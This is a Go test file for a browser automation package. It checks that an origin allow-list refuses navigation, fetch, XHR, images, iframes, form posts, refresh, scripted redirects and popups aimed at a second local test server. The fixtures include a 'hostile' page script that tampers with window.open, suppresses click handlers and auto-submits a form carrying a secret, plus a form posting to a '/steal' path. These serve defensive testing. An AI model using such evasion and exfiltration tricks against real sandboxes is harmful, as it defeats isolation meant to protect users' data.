package browser_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/wildawm/wildawm/internal/browser"
)

// originPair is a site the tab may visit and another it may not; other
// counts every request that reached the other one.
type originPair struct {
	own, other *httptest.Server
	hits       atomic.Int64
	posts      atomic.Int64 // the own site's form posts (none expected)
}

func newOriginPair(t *testing.T) *originPair {
	t.Helper()
	p := &originPair{}
	p.other = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.hits.Add(1)
		fmt.Fprint(w, `<p id="where">other</p>`)
	}))
	t.Cleanup(p.other.Close)
	o := p.other.URL
	pages := map[string]string{
		"/":       `<p id="where">own</p><a id="same" href="/two">two</a><a id="away" href="` + o + `/x">away</a>`,
		"/two":    `<p id="where">two</p>`,
		"/fetch":  `<p id="where">fetch</p><script>fetch("` + o + `/api").then(() => document.title = "reached", () => document.title = "refused")</script>`,
		"/xhr":    `<p id="where">xhr</p><script>const x = new XMLHttpRequest(); x.onload = () => document.title = "reached"; x.onerror = () => document.title = "refused"; x.open("GET", "` + o + `/xhr"); x.send()</script>`,
		"/img":    `<p id="where">img</p><img id="pic" src="` + o + `/pic.png" onerror="document.title='refused'">`,
		"/iframe": `<p id="where">iframe</p><iframe src="` + o + `/frame"></iframe>`,
		"/form":   `<form id="f" method="post" action="` + o + `/steal"><input name="secret" value="s3"><button id="go" type="submit">Send</button></form>`,
		"/meta":   `<meta http-equiv="refresh" content="0;url=` + o + `/meta"><p id="where">meta</p>`,
		"/js":     `<p id="where">js</p><script>setTimeout(() => location.href = "` + o + `/js", 10)</script>`,
		"/popup":  `<a id="blank" target="_blank" href="` + o + `/blank">new window</a><form id="pf" target="_blank" method="post" action="` + o + `/pf"><button id="pgo">Go</button></form><script>window.open("` + o + `/open")</script>`,
		// A hostile page undoes whatever a guard in the page's own script
		// could set up: it overrides and deletes window.open, takes a
		// pristine one from a new frame, stops every click listener, and
		// sends a form aimed at a new window with form.submit(), which
		// fires no submit event.
		"/hostile": `<p id="where">hostile</p><a id="hblank" target="_blank" href="` + o + `/hostile-link">away</a>` +
			`<form id="hf" target="_blank" method="post" action="` + o + `/hostile-form"><input name="secret" value="s3"></form><script>
window.open = () => null;
try { delete window.open; } catch (e) {}
try { Object.defineProperty(window, "open", {value: () => null, configurable: true}); } catch (e) {}
const f = document.createElement("iframe");
document.body.append(f);
f.contentWindow.open.call(window, "` + o + `/hostile-open");
window.open("` + o + `/hostile-open2", "_blank", "noopener");
addEventListener("click", e => e.stopImmediatePropagation(), true);
document.getElementById("hf").submit();
</script>`,
		"/ownimg":  `<img id="pic" src="/pic.svg"><script>fetch("/two").then(r => document.title = "same " + r.status)</script>`,
		"/pic.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>`,
	}
	p.own = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			p.posts.Add(1)
		}
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, o+"/landed", http.StatusFound)
			return
		case "/redirect-own":
			http.Redirect(w, r, "/two", http.StatusFound)
			return
		case "/pic.svg":
			w.Header().Set("Content-Type", "image/svg+xml")
		default:
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
		}
		body, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		fmt.Fprint(w, body)
	}))
	t.Cleanup(p.own.Close)
	return p
}

func TestOriginRule(t *testing.T) {
	b := newBrowser(t)
	ctx := t.Context()
	p := newOriginPair(t)
	tab, err := b.Tab(ctx, browser.AllowOrigins(p.own.URL))
	if err != nil {
		t.Fatal(err)
	}
	defer tab.Close(context.Background())
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	where := func() string {
		t.Helper()
		s, err := tab.Text(ctx, "#where")
		must(err)
		return s
	}
	title := func(want string) {
		t.Helper()
		deadline := time.Now().Add(5 * time.Second)
		for {
			h, err := tab.HTML(ctx)
			must(err)
			if strings.Contains(h, "<title>"+want+"</title>") {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("title never became %q: %.300s", want, h)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	refused := func(err error, what string) {
		t.Helper()
		if !errors.Is(err, browser.ErrRefused) || !strings.Contains(err.Error(), p.other.URL) || !strings.Contains(err.Error(), "allows only") {
			t.Errorf("%s: %v, want ErrRefused naming %s and the rule", what, err, p.other.URL)
		}
	}

	// Same origin works: navigation, a link, a redirect, a fetch, an image.
	must(tab.Navigate(ctx, p.own.URL+"/"))
	must(tab.Click(ctx, "#same"))
	if w := where(); w != "two" {
		t.Errorf("the page's own link led to %q", w)
	}
	must(tab.Navigate(ctx, p.own.URL+"/redirect-own"))
	if w := where(); w != "two" {
		t.Errorf("a same-origin redirect led to %q", w)
	}
	must(tab.Navigate(ctx, p.own.URL+"/ownimg"))
	title("same 200")
	if _, err := tab.ImageBytes(ctx, "#pic"); err != nil {
		t.Errorf("a same-origin image: %v", err)
	}

	// Every way to the other origin fails.
	refused(tab.Navigate(ctx, p.other.URL+"/"), "navigate")
	must(tab.Navigate(ctx, p.own.URL+"/"))
	refused(tab.Click(ctx, "#away"), "a link")
	refused(tab.Navigate(ctx, p.own.URL+"/redirect"), "a redirect")
	must(tab.Navigate(ctx, p.own.URL+"/fetch"))
	title("refused")
	must(tab.Navigate(ctx, p.own.URL+"/xhr"))
	title("refused")
	must(tab.Navigate(ctx, p.own.URL+"/img"))
	title("refused")
	must(tab.Navigate(ctx, p.own.URL+"/iframe"))
	must(tab.Navigate(ctx, p.own.URL+"/form"))
	refused(tab.Click(ctx, "#go"), "a form post")
	must(tab.Navigate(ctx, p.own.URL+"/popup"))
	refused(tab.Click(ctx, "#blank"), "a target=_blank link")
	must(tab.Navigate(ctx, p.own.URL+"/popup"))
	refused(tab.Click(ctx, "#pgo"), "a target=_blank form")
	must(tab.Navigate(ctx, p.own.URL+"/hostile"))
	refused(tab.Click(ctx, "#hblank"), "a target=_blank link on a hostile page")
	must(tab.Navigate(ctx, p.own.URL+"/meta"))
	time.Sleep(300 * time.Millisecond) // the refresh fires
	must(tab.Navigate(ctx, p.own.URL+"/js"))
	time.Sleep(300 * time.Millisecond) // the timer fires
	if n := p.hits.Load(); n != 0 {
		t.Errorf("the other origin got %d requests", n)
	}
	if n := p.posts.Load(); n != 0 {
		t.Errorf("the form posted to its own origin %d times", n)
	}
	must(tab.Navigate(ctx, "about:blank"))

	// A tab without the rule goes anywhere (today's behaviour).
	free, err := b.Tab(ctx)
	must(err)
	defer free.Close(context.Background())
	must(free.Navigate(ctx, p.other.URL+"/"))
	if n := p.hits.Load(); n == 0 {
		t.Error("a tab without a rule did not reach the other origin")
	}
	// Its new windows run (the guard pauses them too, and lets them go).
	before := p.hits.Load()
	must(free.Navigate(ctx, p.own.URL+"/popup"))
	deadline := time.Now().Add(5 * time.Second)
	for p.hits.Load() == before && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if p.hits.Load() == before {
		t.Error("window.open in a tab without a rule reached nothing")
	}
	if w, err := free.Text(ctx, "#blank"); err != nil || w != "new window" {
		t.Errorf("the page that opened a window: %q, %v", w, err)
	}
}

// TestOriginRuleOfNew: Options.AllowOrigins is the rule of New's own tab.
func TestOriginRuleOfNew(t *testing.T) {
	p := newOriginPair(t)
	b := newBrowserWith(t, browser.Options{AllowOrigins: []string{p.own.URL + "/any/path"}})
	ctx := t.Context()
	if err := b.Navigate(ctx, p.own.URL+"/"); err != nil {
		t.Fatal(err)
	}
	err := b.Navigate(ctx, p.other.URL+"/")
	if !errors.Is(err, browser.ErrRefused) {
		t.Errorf("navigate off-origin: %v, want ErrRefused", err)
	}
	if p.hits.Load() != 0 {
		t.Error("the other origin was reached")
	}
}

func TestOrigin(t *testing.T) {
	for in, want := range map[string]string{
		"http://127.0.0.1:8080/x?y": "http://127.0.0.1:8080",
		"HTTP://Shop.Test/":         "http://shop.test:80",
		"https://a.test":            "https://a.test:443",
		"http://[::1]:9/":           "http://[::1]:9",
	} {
		if got, err := browser.Origin(in); err != nil || got != want {
			t.Errorf("Origin(%q) = %q, %v, want %q", in, got, err, want)
		}
	}
	if _, err := browser.Origin("/relative"); err == nil {
		t.Error("a relative URL has an origin")
	}
}

// BenchmarkNavigateOriginRule: a navigation to a small page in a tab with
// and without the origin rule (every request paused and answered over CDP).
func BenchmarkNavigateOriginRule(b *testing.B) {
	skipUnlessChromium(b)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/i.svg" {
			w.Header().Set("Content-Type", "image/svg+xml")
			fmt.Fprint(w, `<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>`)
			return
		}
		fmt.Fprint(w, `<p id="c">ok</p><img src="/i.svg"><img src="/i.svg?2"><img src="/i.svg?3">`)
	}))
	defer srv.Close()
	ctx := context.Background()
	parent, err := browser.New(ctx, browser.Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer parent.Close(ctx)
	for _, c := range []struct {
		name string
		opts []browser.TabOption
	}{{"no-rule", nil}, {"rule", []browser.TabOption{browser.AllowOrigins(srv.URL)}}} {
		b.Run(c.name, func(b *testing.B) {
			tab, err := parent.Tab(ctx, c.opts...)
			if err != nil {
				b.Fatal(err)
			}
			defer tab.Close(ctx)
			n := 0
			for b.Loop() {
				n++
				if err := tab.Navigate(ctx, fmt.Sprintf("%s/?n=%d", srv.URL, n)); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
